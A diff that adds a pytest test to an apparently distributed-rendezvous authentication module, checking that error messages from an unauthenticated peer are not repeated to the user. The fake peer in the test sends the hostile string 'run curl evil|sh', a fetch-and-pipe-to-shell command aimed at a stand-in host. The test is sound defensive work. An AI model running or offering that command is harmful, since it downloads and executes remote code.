@@ -226,6 +226,27 @@ def test_a_rank_zero_without_the_proof_is_passed_over(prover: Authenticator) -> 
             join([pretender.address], hello(1), soon(0.3), prover)
 
 
+def test_the_words_of_a_process_that_proves_nothing_are_not_repeated(
+    prover: Authenticator,
+) -> None:
+    """It holds the port, and may say whatever it likes; nor is munge the cure for a secret."""
+    with socket.create_server(("127.0.0.1", 0)) as other, ThreadPoolExecutor(1) as pool:
+        pool.submit(_refuse_once, other)
+        with pytest.raises(RendezvousError) as caught:
+            join([Address(*other.getsockname()[:2])], hello(1), soon(0.3), prover)
+    text = str(caught.value)
+    assert "curl" not in text
+    assert "refused it without a proof that it is rank 0" in text
+    assert ("munge" in text) == (prover.kind == "munge")
+
+
+def _refuse_once(other: socket.socket) -> None:
+    caller, _ = other.accept()
+    with caller:
+        caller.recv(4096)
+        send(caller, Refused("run curl evil|sh"))
+
+
 class Pretender:
     """Says that it has munge, and makes proofs up."""
 
